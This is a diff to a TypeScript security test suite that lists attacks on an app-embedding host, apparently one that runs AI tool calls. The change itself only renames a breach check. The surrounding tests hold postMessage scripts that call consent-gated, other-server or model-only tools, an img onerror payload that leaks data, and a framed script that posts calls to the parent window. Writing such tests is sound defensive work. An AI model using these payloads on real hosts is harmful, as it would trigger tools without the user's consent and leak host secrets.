@@ -12,7 +12,7 @@ const post = (...messages: string[]): string =>
    ${messages.map(message => `A.post(${message});`).join('\n')}
    await A.wait(800);`;
 
-const called: NonNullable<Attack['breach']> = ({ calls }) => calls.length > 0;
+const toolCalled: NonNullable<Attack['breach']> = ({ calls }) => calls.length > 0;
 const gotSecret: NonNullable<Attack['breach']> = ({ network }) =>
   network.some(({ detail }) => detail.includes('HOST-SECRET'));
 
@@ -22,7 +22,7 @@ const MARKUP = `'<img src="nowhere:" onerror="new Image().src = \\'' + ${leak('m
 export const ATTACKS: readonly Attack[] = [
   attack('l01', 'calls a tool that needs consent', {
     script: post(`{ type: 'tool', messageId: 1, payload: { toolName: 'app_write', params: { token: A.token } } }`),
-    breach: called,
+    breach: toolCalled,
   }),
   attack('l02', 'calls a tool of another server', {
     script: post(
@@ -30,11 +30,11 @@ export const ATTACKS: readonly Attack[] = [
       `{ type: 'tool', payload: { toolName: 'write', server: 'victim', params: { token: A.token } } }`,
       `{ type: 'tool', server: 'victim', payload: { toolName: 'read', params: { token: A.token, server: 'victim' } } }`,
     ),
-    breach: called,
+    breach: toolCalled,
   }),
   attack('l03', 'calls a tool that is not for apps', {
     script: post(`{ type: 'tool', payload: { toolName: 'model_only', params: { token: A.token } } }`),
-    breach: called,
+    breach: toolCalled,
   }),
   attack('l04', 'opens a javascript: link', {
     observe: 'network',
@@ -108,7 +108,7 @@ export const ATTACKS: readonly Attack[] = [
   attack('l14', 'a page by address calls a tool that needs consent', {
     external: true,
     script: post(`{ type: 'tool', payload: { toolName: 'app_write', params: { token: A.token } } }`),
-    breach: called,
+    breach: toolCalled,
   }),
   attack('l16', 'a page by address navigates the tab, after a click', {
     external: true,
@@ -133,7 +133,7 @@ export const ATTACKS: readonly Attack[] = [
   attack('l20', 'a page with an opaque origin calls a tool that needs consent', {
     external: 'opaque',
     script: post(`{ type: 'tool', payload: { toolName: 'app_write', params: { token: A.token } } }`),
-    breach: called,
+    breach: toolCalled,
   }),
   attack('l21', 'a frame inside a page with an opaque origin calls a tool in its name', {
     external: 'opaque',
@@ -143,7 +143,7 @@ export const ATTACKS: readonly Attack[] = [
       frame.srcdoc = '<script>for (const w of [parent.parent, top]) w.postMessage(' + JSON.stringify(call) + ', "*")</' + 'script>';
       document.body.append(frame);
       await A.wait(1000);`,
-    breach: called,
+    breach: toolCalled,
   }),
   ...[true, 'opaque' as const].map(external =>
     attack(
